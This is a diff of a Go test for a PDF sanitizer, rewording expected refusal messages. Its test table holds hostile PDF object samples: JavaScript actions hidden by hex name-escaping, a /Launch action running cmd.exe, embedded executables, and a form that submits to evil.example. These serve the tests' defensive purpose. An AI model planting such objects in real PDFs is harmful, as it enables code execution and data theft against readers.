@@ -67,7 +67,7 @@ const script = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
 func TestClean_RefusesWhatRunsSendsOrCarries(t *testing.T) {
 	later := []byte("x << " + strings.Repeat("<", 2) + " >>")
 	for name, test := range map[string]struct{ objects, why string }{
-		"script":                           {"7 0 obj " + script + " endobj", "holds a program (/JavaScript)"},
+		"script":                           {"7 0 obj " + script + " endobj", "contains a program (/JavaScript)"},
 		"script, escaped":                  {"7 0 obj << /S /J#61vaScript >> endobj", "(/JavaScript)"},
 		"script, escaped whole":            {"7 0 obj << /S /#4a#61#76#61#53#63#72#69#70#74 >> endobj", "(/JavaScript)"},
 		"script, its text alone":           {"7 0 obj << /J#53 (app) >> endobj", "(/JS)"},
@@ -86,8 +86,8 @@ func TestClean_RefusesWhatRunsSendsOrCarries(t *testing.T) {
 		"object behind a remark":           {"7 %\n 0 %\r obj % >>\n" + script, "(/JavaScript)"},
 		"launch":                           {"7 0 obj << /S /Launch /F (cmd.exe) >> endobj", "starts programs (/Launch)"},
 		"launch, escaped":                  {"7 0 obj << /S /L#61unch /F (cmd.exe) >> endobj", "(/Launch)"},
-		"another file":                     {"7 0 obj << /Names << /EmbeddedFiles << /Names [] >> >> >> endobj", "holds another file"},
-		"another file's bytes":             {stream("/Type /EmbeddedFile", []byte("MZ")), "holds another file"},
+		"another file":                     {"7 0 obj << /Names << /EmbeddedFiles << /Names [] >> >> >> endobj", "contains another file"},
+		"another file's bytes":             {stream("/Type /EmbeddedFile", []byte("MZ")), "contains another file"},
 		"form that sends":                  {"7 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj", "(/SubmitForm)"},
 		"form that reads":                  {"7 0 obj << /S /ImportData /F (a.fdf) >> endobj", "(/ImportData)"},
 		"form with programs":               {"7 0 obj << /AcroForm << /XFA 8 0 R >> >> endobj", "(/XFA)"},
